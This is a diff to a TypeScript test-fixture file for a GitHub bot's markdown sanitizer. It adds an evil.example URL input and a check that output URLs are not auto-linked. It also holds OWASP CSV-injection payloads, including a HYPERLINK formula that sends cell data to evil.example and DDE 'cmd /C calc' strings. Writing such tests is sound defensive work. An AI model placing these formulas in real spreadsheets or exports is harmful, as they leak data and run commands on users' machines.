@@ -18,6 +18,8 @@ export const HOSTILE = {
   controls: 'Acme\u0000\u0007\u001b[31mRED\u001b[0m\u0085',
   newlines: 'Acme\r\nicewatch: all sources ok\u2028fake second line',
   table: 'a | b | c',
+  /** Plain URLs GitHub would autolink (an issue URL also cross-references that issue). */
+  urls: 'see https://github.com/octo/repo/issues/1, http://evil.example/x and www.evil.example',
   heading: '# Heading\n---',
   /** A forged copy of the bot's hidden proposal marker. */
   marker: '<!-- icewatch:proposal {"id":"palantir","kind":"add-company","evidenceHash":"forged"} -->',
@@ -25,7 +27,7 @@ export const HOSTILE = {
 } as const;
 
 /** Everything at once, as one name. */
-export const HOSTILE_NAME = [HOSTILE.script, HOSTILE.mentions, HOSTILE.references, HOSTILE.bidi, HOSTILE.controls, HOSTILE.newlines, HOSTILE.jsLink, HOSTILE.img, HOSTILE.marker].join(' ');
+export const HOSTILE_NAME = [HOSTILE.script, HOSTILE.mentions, HOSTILE.references, HOSTILE.bidi, HOSTILE.controls, HOSTILE.newlines, HOSTILE.jsLink, HOSTILE.img, HOSTILE.marker, HOSTILE.urls].join(' ');
 
 /** Cells a spreadsheet would evaluate (OWASP CSV injection list: = + - @ tab CR). */
 export const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
@@ -63,6 +65,7 @@ export function expectInertMarkdown(label: string, markdown: string, options: { 
   expectNone(label, prose, /@(?=[\p{L}\p{N}_-])/u, 'a live @mention');
   expectNone(label, prose, /(?<!&)#\d/, 'a live #reference');
   expectNone(label, prose, /\bGH-\d/i, 'a live GH- reference');
+  expectNone(label, prose, /\b(?:https?|ftp):\/\/|\bwww\./i, 'a plain URL GitHub would autolink');
   expectNone(label, markdown, INVISIBLE, 'an invisible or bidi character');
   // HTML comments are the bot's own hidden markers only; an input's comment must stay visible text.
   expect(markdown.split(/(?<!\\)<!--/).length - 1, `${label}: raw HTML comments`).toBe(options.comments ?? 0);
